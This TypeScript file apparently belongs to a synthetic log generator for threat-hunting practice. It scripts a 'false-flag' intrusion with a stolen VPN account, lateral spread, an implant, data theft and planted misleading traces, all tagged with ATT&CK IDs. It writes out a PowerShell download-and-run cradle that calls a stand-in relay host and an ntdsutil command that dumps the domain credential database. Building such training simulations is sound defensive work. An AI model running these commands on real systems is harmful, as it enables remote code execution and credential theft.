import { RELAYS } from '../addresses.ts';
import type { Story } from '../contract.ts';
import { logon, logonRefused, scriptBlock } from '../traces/windows.ts';
import { buildWorld, hostOf, hostsOf } from '../world.ts';
import { fileHash, Moves } from './moves.ts';

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
/** The hours of the intruders by the network's clock (UTC+1): an office day far to the west. */
const HOURS = [15, 23] as const;

/**
 * An account that was stolen elsewhere opens the remote entrance; a few machines follow. What is left behind speaks another language and
 * carries the name of a known tool, while the hours of work and the way of working say otherwise: traces that were planted.
 */
export const FALSE_FLAG: Story = {
  name: 'false-flag',
  title: 'Entry with a stolen account, and traces that were planted',
  world: (random) =>
    buildWorld(
      {
        ...{ domain: 'HARBOUR', dns: 'harbour.example', offset: 60, start: '2025-01-06', days: 120, workstations: 70 },
        servers: [
          ['DC01', 'dc'],
          ['VPN01', 'vpn'],
          ['FILE01', 'file'],
          ['WEC01', 'collector'],
        ],
      },
      random,
    ),
  plot(world, random, truth) {
    const moves = new Moves(world, random, truth);
    const [vpn, dc, file] = [hostOf(world, 'vpn'), hostOf(world, 'dc'), hostOf(world, 'file')];
    const relays = moves.relays(
      [
        ['PL', 2],
        ['NL', 1],
        ['SE', 1],
      ],
      RELAYS,
    );
    const account = 'adm-ops2';
    const implant = { path: 'C:\\ProgramData\\Spooler\\prnhelper.exe', sha256: fileHash(`prnhelper ${random.hex(8)}`) };

    const visit = (time: number, relay: string): void => {
      moves.trace(
        logon(world, vpn, time, { account, type: 10, from: relay, logonId: `0x${random.hex(6).toLowerCase()}` }),
      );
      truth.attack();
      truth.step('T1133', vpn.name, time);
    };

    const entryDay = random.between(10, 18);
    const entry = moves.moment(entryDay, HOURS);
    for (let n = 0; n < 6; n++)
      moves.trace(logonRefused(world, vpn, entry - 600_000 + n * 45_000, account, relays[0]!));
    visit(entry, relays[0]!);
    truth.account(account);
    moves.command(
      vpn,
      entry + 90_000,
      POWERSHELL,
      'C:\\Windows\\System32\\whoami.exe',
      'whoami /groups',
      account,
      'T1033',
    );
    const script =
      'IEX (New-Object Net.WebClient).DownloadString("http://node3.relay.example/a") # por testo, ne forgesu forigi';
    moves.trace(scriptBlock(world, vpn, entry + 150_000, script));
    truth.step('T1059.001', vpn.name, entry + 150_000);
    truth.plant('comments in another language in scripts');
    moves.settle(vpn, entry + 400_000, POWERSHELL, implant, relays[1]!);

    const second = moves.moment(entryDay + 4, HOURS);
    visit(second, relays[1]!);
    moves.spread(vpn, dc, second + 120_000, account, implant, relays[1]!);
    moves.command(
      dc,
      second + 400_000,
      'C:\\Windows\\System32\\cmd.exe',
      'C:\\Windows\\System32\\ntdsutil.exe',
      'ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\q" q q',
      account,
      'T1003.003',
    );
    const desks = random.sample(hostsOf(world, 'workstation'), 14);
    for (let n = 0; n < 6; n++) {
      const time = moves.moment(entryDay + 9 + n * 8, HOURS);
      visit(time, random.pick(relays));
      for (const [m, desk] of desks.slice(n * 2, n * 2 + 2).entries())
        moves.spread(dc, desk, time + 90_000 + m * 80_000, account, implant, random.pick(relays));
    }
    for (const [n, desk] of desks.slice(12).entries())
      moves.touch(dc, desk, moves.moment(entryDay + 59 + n, HOURS), account);
    const raid = moves.moment(entryDay + 64, HOURS);
    visit(raid, relays[2]!);
    moves.spread(dc, file, raid + 60_000, account, implant, relays[2]!);
    moves.takeOut(file, raid + 1_200_000, implant.path, relays[2]!, 380);
    truth.plant('an implant under the name of a printer helper that others are known for');
    const last = moves.moment(entryDay + 70, HOURS);
    visit(last, relays[0]!);
    moves.wipe(dc, last + 200_000, account, POWERSHELL);
    return moves;
  },
};
